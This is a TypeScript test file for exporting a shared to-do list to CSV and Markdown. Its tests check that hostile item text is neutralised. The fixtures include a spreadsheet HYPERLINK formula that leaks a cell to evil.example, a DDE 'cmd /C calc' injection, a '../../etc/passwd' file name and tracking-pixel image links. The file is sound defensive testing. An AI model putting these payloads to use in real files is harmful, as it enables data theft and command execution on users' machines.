import { describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { addItem, itemText, setItemDone } from '../../../src/core/space/items.ts'
import { exportedItems, exportFileName, itemsToCsv, itemsToMarkdown, type ExportedItem } from '../../../src/core/space/itemsExport.ts'

describe('exporting a space’s items', () => {
  it('reads the items in list order with their notes and whether they are done', () => {
    const doc = new Y.Doc()
    const milk = addItem(doc, 'Milk')
    addItem(doc, 'Bread')
    setItemDone(doc, milk, true)
    itemText(doc, milk, 'notes')?.insert(0, 'oat, not cow')
    expect(exportedItems(doc)).toEqual([
      { title: 'Milk', done: true, notes: 'oat, not cow' },
      { title: 'Bread', done: false, notes: '' },
    ])
  })

  it('writes Markdown as a task list under the space’s name, notes quoted under their item', () => {
    const markdown = itemsToMarkdown('Groceries', [
      { title: 'Milk', done: true, notes: 'oat\nnot cow' },
      { title: 'Bread', done: false, notes: '' },
      { title: '', done: false, notes: '' },
    ])
    expect(markdown).toBe('# Groceries\n\n- [x] Milk\n\n  > oat\n  > not cow\n\n- [ ] Bread\n- [ ] *untitled item*\n')
  })

  it('writes CSV with a header, CRLF line ends, and quotes where a cell needs them', () => {
    const csv = itemsToCsv([
      { title: 'Milk, oat', done: true, notes: 'two\nlines' },
      { title: 'Say "hi"', done: false, notes: '' },
    ])
    expect(csv).toBe('done,title,notes\r\nyes,"Milk, oat","two\nlines"\r\nno,"Say ""hi""",\r\n')
  })

  it('names the file after the space, without separators or characters a file system refuses', () => {
    expect(exportFileName('Weekend trip', 'md')).toBe('Weekend trip.md')
    expect(exportFileName('../../etc/passwd', 'csv')).toBe('etc passwd.csv')
    expect(exportFileName('a:b*c?"d"<e>|f\\g', 'md')).toBe('a b c d e f g.md')
    expect(exportFileName('   ', 'csv')).toBe('pii-space.csv')
    expect(exportFileName('x'.repeat(300), 'md')).toBe(`${'x'.repeat(80)}.md`)
  })
})

describe('what a member writes cannot become structure in an exported file', () => {
  const hostile: ExportedItem[] = [
    { title: '=HYPERLINK("https://evil.example/?"&A1,"Click")', done: false, notes: '' },
    { title: '@SUM(1+1)*cmd|" /C calc"!A0', done: false, notes: '-2+3' },
    { title: '+1', done: false, notes: '\tindented' },
  ]

  it('[EXP1] a cell a spreadsheet would run as a formula is written as text', () => {
    const rows = itemsToCsv(hostile).split('\r\n')
    expect(rows[1]).toBe(`no,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`)
    expect(rows[2]).toBe(`no,"'@SUM(1+1)*cmd|"" /C calc""!A0",'-2+3`)
    expect(rows[3]).toBe(`no,'+1,'\tindented`)
    // No cell of any row starts with a formula character once unquoted.
    for (const row of rows.slice(1, -1)) expect(row).not.toMatch(/(^|,)"?[=+\-@\t]/)
  })

  it('[EXP1] a title cannot add a row: its line breaks become spaces', () => {
    const csv = itemsToCsv([{ title: 'one\r\nno,injected,row', done: false, notes: '' }])
    expect(csv.split('\r\n')).toEqual(['done,title,notes', 'no,"one no,injected,row",', ''])
  })

  it('[EXP2] a title or note cannot add an item, an image or HTML to the Markdown', () => {
    const markdown = itemsToMarkdown('Trip ![x](https://evil.example/pixel.png)', [
      { title: 'Tent\n- [x] Paid Mallory 500', done: false, notes: '<img src="https://evil.example/pixel.png">\n![t](https://evil.example/t.png)' },
    ])
    expect(markdown).toBe(
      '# Trip \\!\\[x\\]\\(https://evil.example/pixel.png\\)\n\n' +
        '- [ ] Tent - \\[x\\] Paid Mallory 500\n\n' +
        '  > \\<img src="https://evil.example/pixel.png"\\>\n' +
        '  > \\!\\[t\\]\\(https://evil.example/t.png\\)\n',
    )
    // One item, whatever the title held.
    expect(markdown.match(/^- \[/gm)).toHaveLength(1)
  })
})
